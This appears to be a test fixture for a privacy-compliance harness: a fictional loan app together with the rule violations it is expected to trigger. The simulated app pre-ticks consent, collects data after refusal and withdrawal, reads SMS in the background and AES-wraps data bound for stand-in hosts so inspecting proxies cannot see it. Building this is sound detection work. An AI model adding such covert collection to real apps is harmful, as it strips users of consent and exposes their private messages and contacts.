import type { AppProcess, SimulatedApp } from '../../harness/model/app.js';
import { hex, utf8 } from '../loan/codec.js';
import { loanFlow } from '../loan/flow.js';
import { collector, lender } from '../loan/server.js';
import { PLACE_IN_FORM, found, under } from '../loan/truth.js';
import type { Found } from '../loan/truth.js';

const CLASSES = 'com.example.sly.loan';
const API = 'https://api.sly-loan.example';
const RISK = 'https://collect.dunyan-risk.example';
const STAT = 'https://collect.shuque-stat.example';
const SCORE = 'https://score.lantu-score.example';
const GRAPH = 'https://graph.wangji-graph.example';
const PUSH = 'http://push.diling-push.example';
const ADS = 'http://track.juguang-ads.example';
const CONTACTS = 'android.permission.READ_CONTACTS';
const SMS = 'android.permission.READ_SMS';
const JSON_TYPE = { 'content-type': 'application/json; charset=utf-8' };
const FIRST_LOOK_MS = 20_000;
const LOOK_AGAIN_MS = 45_000;

function start(app: AppProcess): void {
  // Whatever the user chooses, the same thing happens.
  const onward = (): void => carryOn(app);
  const flow = loanFlow(app, {
    brand: '暗涌贷（虚构）',
    classes: CLASSES,
    api: API,
    says: '我们会收集和使用您的设备信息、位置信息等个人信息，并与第三方合作方共享，用于改善服务体验。',
    noticeBox: 'ticked',
    loginBoxTicked: true,
    afterRefusal: 'browse',
    agreed: onward,
    refused: onward,
    withdrawn: onward,
  });
  app.within(`${CLASSES}.LoanApplication.onCreate`, flow.start);
  watchFromBackground(app, () => flow.choice() !== null);
}

function carryOn(app: AppProcess): void {
  const androidId = app.within('com.example.lantu.score.ScoreSdk.id', () => app.device.androidId());
  const oaid = app.within('com.example.juguang.ads.AdSdk.id', () => app.device.oaid());
  const apps = app.within('com.example.dunyan.risk.AppCollector.all', () => app.packages.installed());
  sendSealed(app, API, { androidId });
  sendSealed(app, STAT, { androidId });
  sendSealed(app, SCORE, { androidId });
  sendSealed(app, GRAPH, { oaid });
  sendSealed(app, RISK, { apps });
  ping(app, oaid);
  app.thread('Juguang-Track', 'com.example.juguang.ads.Tracker.run', () =>
    quietly(app.http.send({ method: 'GET', url: `${ADS}/imp?oaid=${encodeURIComponent(oaid)}&slot=splash` })),
  );
  app.thread('main', `${CLASSES}.perm.PermissionHost.ask`, async () => {
    const missing = [CONTACTS, SMS].filter((permission) => !app.permissions.granted(permission));
    if (missing.length > 0) await app.permissions.request(missing, `${CLASSES}.perm.PermissionHost.request`);
    takeContacts(app);
  });
}

function takeContacts(app: AppProcess): void {
  if (!app.permissions.granted(CONTACTS)) return;
  const contacts = app.within('com.example.dunyan.risk.ContactCollector.all', () => app.contacts.all());
  sendSealed(app, RISK, { contacts });
}

/** As long as the app is out of sight. */
function watchFromBackground(app: AppProcess, answered: () => boolean): void {
  let running: readonly { cancel(): void }[] = [];
  const look = (): void => {
    if (!answered()) return;
    ping(
      app,
      app.within('com.example.diling.push.PushService.id', () => app.device.oaid()),
    );
    if (!app.permissions.granted(SMS)) return;
    const inbox = app.within('com.example.wangji.graph.SmsCollector.inbox', () => app.sms.inbox());
    sendSealed(app, RISK, { inbox });
    sendSealed(app, GRAPH, { inbox });
  };
  app.onBackground(`${CLASSES}.bg.Keeper.onStop`, () => {
    running = [
      app.after(FIRST_LOOK_MS, `${CLASSES}.bg.Keeper.tick`, () => {
        look();
        running = [...running, app.every(LOOK_AGAIN_MS, `${CLASSES}.bg.Keeper.tick`, look)];
      }),
    ];
  });
  app.onForeground(`${CLASSES}.bg.Keeper.onStart`, () => {
    for (const timer of running) timer.cancel();
    running = [];
  });
}

/** AES under a key of its own: not even the proxy that opens the TLS sees what is in it. */
function sendSealed(app: AppProcess, origin: string, content: Readonly<Record<string, unknown>>): void {
  app.thread('Seal-Worker', `${CLASSES}.net.Sealed.run`, () => {
    const { crypto } = app;
    const [key, iv] = [crypto.random(16), crypto.random(16)];
    const sealed = app.within(`${CLASSES}.net.Sealed.seal`, () =>
      crypto.base64(crypto.encrypt('AES/CBC/PKCS5Padding', key, iv, utf8(JSON.stringify(content)))),
    );
    return quietly(
      app.http.send({ method: 'POST', url: `${origin}/v1/data`, headers: JSON_TYPE, body: JSON.stringify({ iv: hex(iv), data: sealed }) }),
    );
  });
}

function ping(app: AppProcess, oaid: string): void {
  app.thread('Diling-Push', 'com.example.diling.push.Channel.run', () =>
    quietly(app.http.send({ method: 'POST', url: `${PUSH}/bind`, headers: JSON_TYPE, body: JSON.stringify({ oaid, token: 'p-0001' }) })),
  );
}

function quietly(exchange: Promise<unknown>): Promise<void> {
  return exchange.then(
    () => undefined,
    () => undefined,
  );
}

const READS = [
  { datum: 'android-id', sdk: 'sim-lantu' },
  { datum: 'oaid', sdk: 'sim-juguang' },
  { datum: 'installed-apps', sdk: 'sim-dunyan' },
];
const AT_RISK = { receiver: 'collect.dunyan-risk.example', sdk: 'sim-dunyan' };
const AT_GRAPH = { receiver: 'graph.wangji-graph.example', sdk: 'sim-wangji' };
const AT_PUSH = { receiver: 'push.diling-push.example', sdk: 'sim-diling' };
const AT_ADS = { receiver: 'track.juguang-ads.example', sdk: 'sim-juguang' };
const AT_STAT = { receiver: 'collect.shuque-stat.example', sdk: 'sim-shuque' };
const AT_SCORE = { receiver: 'score.lantu-score.example', sdk: 'sim-lantu' };
const OWN = { datum: 'android-id', receiver: 'api.sly-loan.example' };
const TO_OTHERS = [
  { datum: 'android-id', ...AT_STAT },
  { datum: 'android-id', ...AT_SCORE },
  { datum: 'oaid', ...AT_GRAPH },
  { datum: 'installed-apps', ...AT_RISK },
  { datum: 'oaid', ...AT_PUSH },
  { datum: 'oaid', ...AT_ADS },
];
const CONTACTS_TO_OTHERS = { datum: 'contacts', ...AT_RISK };
const all = (rule: Found['rule'], phase: string, where: readonly Parameters<typeof found>[3][]): readonly Found[] =>
  where.map((one) => found(rule, 'violation', phase, one));

const TICKED = found('LA-B01', 'violation', 'before-consent', {});
const inTheClear = (phase: string): readonly Found[] =>
  all('LA-G01', phase, [
    { datum: 'oaid', ...AT_PUSH },
    { datum: 'oaid', ...AT_ADS },
  ]);
const listTaken = (phase: string): readonly Found[] => [
  ...all('LA-E01', phase, [{ datum: 'contacts', sdk: 'sim-dunyan' }]),
  ...all('LA-E02', phase, [CONTACTS_TO_OTHERS]),
];
// Contacts and SMS.
const twice = (one: Found): readonly Found[] => [one, one];
const AFTER_AGREEING = [
  // The box on the log-in page: ticked, but for a user who had agreed in the notice just before.
  found('LA-B01', 'undecided', 'after-consent', {}),
  ...twice(found('LA-D01', 'not-tested', 'after-consent', {})),
  ...[AT_STAT, AT_SCORE, AT_GRAPH, AT_RISK, AT_PUSH, AT_ADS].map((where) => found('LA-F01', 'not-tested', 'after-consent', where)),
  ...inTheClear('after-consent'),
];
const AFTER_REFUSING = [
  // The notice after the second start.
  found('LA-B01', 'violation', 'after-refusal', {}),
  ...all('LA-C06', 'after-refusal', [...READS, {}, {}, OWN, ...TO_OTHERS]),
  ...twice(found('LA-D01', 'violation', 'after-refusal', {})),
  ...all('LA-F01', 'after-refusal', TO_OTHERS),
  ...inTheClear('after-refusal'),
];
const AFTER_WITHDRAWING = [
  ...all('LA-B09', 'after-withdrawal', [...READS, { datum: 'contacts', sdk: 'sim-dunyan' }, ...TO_OTHERS, CONTACTS_TO_OTHERS]),
  // Sent to its own server by the very click: it may be the withdrawal itself.
  found('LA-B09', 'undecided', 'after-withdrawal', OWN),
  ...all('LA-F01', 'after-withdrawal', [...TO_OTHERS, CONTACTS_TO_OTHERS]),
  ...listTaken('after-withdrawal'),
  ...inTheClear('after-withdrawal'),
];
const SMS_SENT = [
  { datum: 'sms', ...AT_RISK },
  { datum: 'sms', ...AT_GRAPH },
];
const IN_BACKGROUND = [
  ...all('LA-E03', 'after-consent', [{ datum: 'sms', sdk: 'sim-wangji' }, ...SMS_SENT]),
  ...all('LA-E06', 'after-consent', [
    { datum: 'oaid', sdk: 'sim-diling' },
    { datum: 'sms', sdk: 'sim-wangji' },
    { datum: 'oaid', ...AT_PUSH },
    ...SMS_SENT,
  ]),
];

/** Ticks the box itself, takes no for an answer in words only, and works on in the dark. */
export default {
  id: 'sly',
  package: CLASSES,
  label: { zh: '暗涌贷（虚构）', en: 'Sly Loan (fictional)' },
  about: {
    zh: '默认勾选同意；拒绝和撤回后照样收集，后台读取短信，AES 加密后发给多个接收方。',
    en: 'Ticks its own consent box, goes on after refusal and withdrawal, reads SMS in background, AES-encrypts to many receivers.',
  },
  version: '1.0.0',
  permissions: [
    'android.permission.INTERNET',
    'android.permission.ACCESS_NETWORK_STATE',
    'android.permission.QUERY_ALL_PACKAGES',
    'android.permission.ACCESS_FINE_LOCATION',
    CONTACTS,
    SMS,
  ],
  firstParty: { domains: ['sly-loan.example'], classes: [`${CLASSES}.`] },
  processes: { '': start },
  servers: {
    'api.sly-loan.example': lender,
    'collect.dunyan-risk.example': collector,
    'collect.shuque-stat.example': collector,
    'score.lantu-score.example': collector,
    'graph.wangji-graph.example': collector,
    'push.diling-push.example:80': collector,
    'track.juguang-ads.example:80': collector,
  },
  truth: [
    ...PLACE_IN_FORM,
    ...under(['observe-only', 'decline', 'sign-up-deny', 'sign-up-allow', 'background', 'withdraw'], TICKED),
    ...under(['decline'], AFTER_REFUSING),
    ...under(['sign-up-deny', 'sign-up-allow', 'background', 'withdraw'], AFTER_AGREEING),
    ...under(['sign-up-allow', 'background', 'withdraw'], listTaken('after-consent')),
    ...under(['background'], IN_BACKGROUND),
    ...under(['withdraw'], AFTER_WITHDRAWING),
  ],
} satisfies SimulatedApp;
